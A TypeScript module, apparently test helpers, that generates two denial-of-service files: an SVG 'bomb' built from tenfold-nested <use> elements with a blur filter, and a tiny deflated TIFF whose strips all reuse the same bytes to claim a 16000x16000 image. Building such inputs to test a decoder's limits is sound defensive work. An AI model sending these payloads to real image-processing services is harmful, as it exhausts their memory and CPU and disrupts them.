import { deflateSync } from 'node:zlib'

/** An SVG of 2 KB that draws a thousand million blurred rectangles; `size`: its attributes of width and height. */
export function svgBomb(size = 'width="400" height="300"'): Buffer {
  const groups = Array.from({ length: 9 }, (_, level) => {
    return `<g id="g${level + 1}">${`<use href="#g${level}"/>`.repeat(10)}</g>`
  })
  const blur = '<filter id="f"><feGaussianBlur stdDeviation="20"/></filter>'
  const first = '<g id="g0"><rect width="100" height="100" filter="url(#f)"/></g>'
  const defined = `<defs>${blur}${first}${groups.join('')}</defs>`
  return Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" ${size}>${defined}<use href="#g9"/></svg>`)
}

/** A deflated TIFF of CMYK whose strips of 100 rows all lie in the same bytes: 20 KB for 16000x16000. */
export function tiffBomb(side: number): Buffer {
  const strips = side / 100
  const strip = deflateSync(Buffer.alloc(100 * side * 4))
  const [entries, firstEntry] = [10, 8]
  const bits = firstEntry + 2 + entries * 12 + 4
  const offsets = bits + 8
  const counts = offsets + 4 * strips
  const start = counts + 4 * strips
  const [short, long] = [3, 4]
  const tags: [tag: number, type: number, count: number, value: number][] = [
    [256, long, 1, side], // width
    [257, long, 1, side], // height
    [258, short, 4, bits], // bits of each sample
    [259, short, 1, 8], // deflate
    [262, short, 1, 5], // inks
    [273, long, strips, offsets],
    [277, short, 1, 4], // samples of a pixel
    [278, long, 1, 100], // rows of a strip
    [279, long, strips, counts],
    [284, short, 1, 1], // samples side by side
  ]
  const head = Buffer.alloc(start)
  head.write('II*\0', 'latin1')
  head.writeUInt32LE(firstEntry, 4)
  head.writeUInt16LE(entries, firstEntry)
  for (const [index, [tag, type, count, value]] of tags.entries()) {
    const entry = firstEntry + 2 + 12 * index
    head.writeUInt16LE(tag, entry)
    head.writeUInt16LE(type, entry + 2)
    head.writeUInt32LE(count, entry + 4)
    head.writeUInt32LE(value, entry + 8)
  }
  for (let sample = 0; sample < 4; sample++) head.writeUInt16LE(8, bits + 2 * sample)
  for (let index = 0; index < strips; index++) {
    head.writeUInt32LE(start, offsets + 4 * index)
    head.writeUInt32LE(strip.length, counts + 4 * index)
  }
  return Buffer.concat([head, strip])
}
